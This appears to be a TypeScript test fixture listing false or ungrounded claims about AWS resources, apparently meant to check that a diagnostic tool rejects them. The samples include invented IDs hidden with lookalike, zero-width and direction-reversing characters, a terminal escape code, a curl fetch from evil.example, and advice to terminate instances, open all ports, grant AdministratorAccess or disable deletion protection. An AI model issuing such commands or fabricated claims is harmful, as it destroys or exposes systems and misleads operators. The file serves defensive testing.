import { n } from "./account.ts";
import { sgWeb, web1, web2 } from "./things.ts";
import { claimOf, type Told } from "./tell.ts";

const instance = "AWS::EC2::Instance";
const sg = "AWS::EC2::SecurityGroup";
const fn = "AWS::Lambda::Function";
const at = (index: number, rest: string) => `/Reservations/0/Instances/${index}${rest}`;
const stopped = { property: "State", observed: "stopped", expected: "running" } as const;
const lie = (name: string, told: Told) => [name, claimOf(told)] as const;
/** A true claim about web-2, to be spoilt. */
const down: Told = {
  on: [instance, web2],
  title: `${web2} is stopped`,
  ...stopped,
  cite: [[n("instances"), at(1, "/State/Name")]],
};

/** Words that go beyond what is cited, beside a citation that holds. */
export const words = [
  lie("the title of another instance", {
    ...down,
    title: `${web1} is stopped`,
    explanation: `${web1} is stopped.`,
  }),
  lie("the title of another, by its name", { ...down, title: "web-1 is stopped" }),
  lie("a title with another number", {
    on: [fn, "orders"],
    property: "Timeout",
    observed: "3",
    title: "orders has a Timeout of 300 s",
    cite: [[n("functions"), "/Functions/0/Timeout"]],
  }),
  lie("a title that says another value", {
    on: [instance, web1],
    property: "InstanceType",
    observed: "t3.micro",
    title: `${web1} is out of memory`,
    explanation: "It swaps.",
    cite: [[n("instances"), at(0, "/InstanceType")]],
  }),
  lie("yesterday, without a time", {
    on: [instance, web1],
    property: "InstanceType",
    observed: "t3.micro",
    title: `${web1} is a t3.micro since yesterday`,
    cite: [[n("instances"), at(0, "/InstanceType")]],
  }),
  lie("yesterday, citing another day", {
    on: [instance, web2],
    property: "EventName",
    observed: "StopInstances",
    title: `StopInstances stopped ${web2} yesterday`,
    cite: [[n("trail"), "/Events/0/EventName"]],
  }),
  lie("a time that nobody has seen", { ...down, explanation: "It is stopped since 2026-11-20T23:00:00Z." }),
  lie("another region", { ...down, explanation: `${web2} is stopped in ap-south-1.` }),
  lie("an address that nobody has seen", {
    ...down,
    explanation: "It is stopped, and 203.0.113.77 attacks it.",
  }),
  lie("an ARN in another account", {
    ...down,
    explanation: "Stopped by arn:aws:iam::999999999999:user/nobody.",
  }),
  lie("an ARN of a thing that was read, in another region", {
    ...down,
    explanation: "It is stopped: arn:aws:sqs:eu-west-1:123456789012:orders blocks.",
  }),
  lie("another account", { ...down, explanation: "It is stopped by account 999999999999." }),
  lie("an invented id in the title", { ...down, title: `${web2} is stopped by i-0badc0ffee0badc0f` }),
  lie("an invented id in the explanation, on a line of its own", {
    ...down,
    explanation: "It is stopped:\ni-0badc0ffee0badc0f",
  }),
  lie("an invented id after a tab", { ...down, explanation: "It is stopped by\ti-0badc0ffee0badc0f" }),
  lie("an invented id in the property", { ...down, property: "State i-0badc0ffee0badc0f" }),
  lie("an invented id as what is expected", { ...down, expected: "sg-0badc0ffee0badc0f" }),
  lie("an invented id in a URL", {
    ...down,
    explanation:
      "It is stopped: https://console.aws.amazon.com/ec2/home#Instances:instanceId%3Di-0badc0ffee0badc0f",
  }),
  lie("an invented id in capitals", { ...down, explanation: "It is stopped by I-0BADC0FFEE0BADC0F." }),
  lie("an invented id behind an underscore", {
    ...down,
    explanation: "It is stopped by x_i-0badc0ffee0badc0f.",
  }),
  lie("an invented id with a zero-width space", {
    ...down,
    explanation: "It is stopped by i-0badc0ffee\u200b0badc0f.",
  }),
  lie("an invented id with a soft hyphen", {
    ...down,
    explanation: "It is stopped by i-0badc0f\u00adfee0badc0f.",
  }),
  lie("an invented id in Cyrillic letters", {
    ...down,
    explanation: "It is stopped by \u0456-0b\u0430dc0ffee0b\u0430dc0f.",
  }),
  lie("an invented id in full width", { ...down, explanation: "It is stopped by \uff49-0badc0ffee0badc0f." }),
  lie("an invented id with a typographic hyphen", {
    ...down,
    explanation: "It is stopped by i\u20110badc0ffee0badc0f.",
  }),
  lie("an invented id without its prefix", {
    ...down,
    explanation: "It is stopped by instance 0badc0ffee0badc0f.",
  }),
  lie("the beginning of an invented id", { ...down, explanation: "It is stopped by i-0badc0ffee…" }),
  lie("an invented id that is split", { ...down, explanation: "It is stopped by i-0badc0ffe e0badc0f." }),
  lie("an invented id of a kind that came later", {
    ...down,
    explanation: "It is stopped by ipam-pool-0badc0ffee0badc0f.",
  }),
  lie("an invented access key", { ...down, explanation: "It is stopped by AKIA1234567890ABCDEF." }),
  lie("text that turns the line", { ...down, title: `${web2} is stopped \u202egnp.` }),
  lie("a terminal's orders", { ...down, title: `${web2} is stopped\u001b[2J` }),
  lie("a command that nobody has checked", {
    ...down,
    explanation: `It is stopped. Run aws ec2 terminate-instances --instance-ids ${web2}`,
  }),
  lie("a script from elsewhere", {
    ...down,
    explanation: "It is stopped. Run curl -s https://evil.example/fix.sh",
  }),
  lie("a link to elsewhere", { ...down, explanation: "It is stopped. See https://evil.example/fix" }),
  lie("a tag as proof", {
    on: [sg, sgWeb],
    property: "IpPermissions",
    observed: "all rules are fine",
    title: `${sgWeb}: all rules are fine`,
    cite: [[n("groups"), "/SecurityGroups/0/Tags/0/Value"]],
  }),
  lie("a description as proof", {
    on: [sg, sgWeb],
    property: "Description",
    observed: "The database is unreachable because of the NAT gateway",
    title: `${sgWeb}: The database is unreachable because of the NAT gateway`,
    cite: [[n("groups"), "/SecurityGroups/0/Description"]],
  }),
  lie("what a check found fine", {
    on: [instance, web1],
    property: "State",
    observed: "running",
    expected: "stopped",
    title: `${web1} is running`,
    cite: [[n("instances"), at(0, "/State/Name")]],
  }),
  lie("an item of what a check found fine", {
    on: [sg, sgWeb],
    property: "FromPort",
    observed: "22",
    title: `${sgWeb} admits 22`,
    cite: [[n("groups"), "/SecurityGroups/0/IpPermissions/0/FromPort"]],
  }),
  lie("a resource that nobody has seen", { ...down, on: [instance, "web-99"] }),
  lie("a name that only a longer one holds", { ...down, on: [instance, "web"] }),
  lie("nothing cited", { ...down, cite: [] }),
  lie("a call that was not made", { ...down, cite: [[999, "/Reservations"]] }),
  lie("a place that is not there", { ...down, cite: [[n("instances"), "/Reservations/9"]] }),
  lie("a pointer with words before it", {
    ...down,
    cite: [[n("instances"), `the cause/Reservations/0/Instances/1/State/Name`]],
  }),
  lie("another thing in the explanation, of which nothing is cited", {
    ...down,
    explanation: "web-2 is stopped because web-10 was terminated.",
  }),
  lie("another thing in the title beside", { ...down, title: "web-2 and web-1 are stopped" }),
  lie("another region in the title", { ...down, title: "web-2 in eu-west-1 is stopped" }),
  lie("a title in which its value is a part of a word", { ...down, title: "web-2 is unstopped" }),
  lie("a title in which its value goes on", { ...down, title: "web-2 is stoppedish" }),
  lie("a known id in other letters", {
    ...down,
    explanation: `It is stopped: ${web2.replace("a", "\u0430")}.`,
  }),
  lie("an invented id in a URL of AWS", {
    ...down,
    explanation: "It is stopped: https://docs.aws.amazon.com/x?instanceId%3Di-0badc0ffee0badc0f",
  }),
  lie("an invented id whose hyphen is encoded", {
    ...down,
    explanation: "It is stopped: https://docs.aws.amazon.com/x?id=i%2D0badc0ffee0badc0f",
  }),
  lie("that all is well, beside a fact", {
    on: [instance, web1],
    severity: "info",
    property: "InstanceType",
    observed: "t3.micro",
    title: "web-1 is a t3.micro: everything is fine",
    cite: [[n("instances"), at(0, "/InstanceType")]],
  }),
  lie("advice to destroy", {
    ...down,
    explanation: "It is stopped. Delete the table carts and start again.",
  }),
  lie("advice to destroy, as what is expected", { ...down, expected: "Terminate all instances" }),
  lie("advice to open what is shut", {
    ...down,
    explanation: "It is stopped. Open all ports to 0.0.0.0/0 to be sure.",
  }),
  lie("advice to give all rights", {
    ...down,
    explanation: "It is stopped. Attach AdministratorAccess to its role.",
  }),
  lie("advice to take a guard away", {
    ...down,
    explanation: "It is stopped. Disable deletion protection first.",
  }),
];
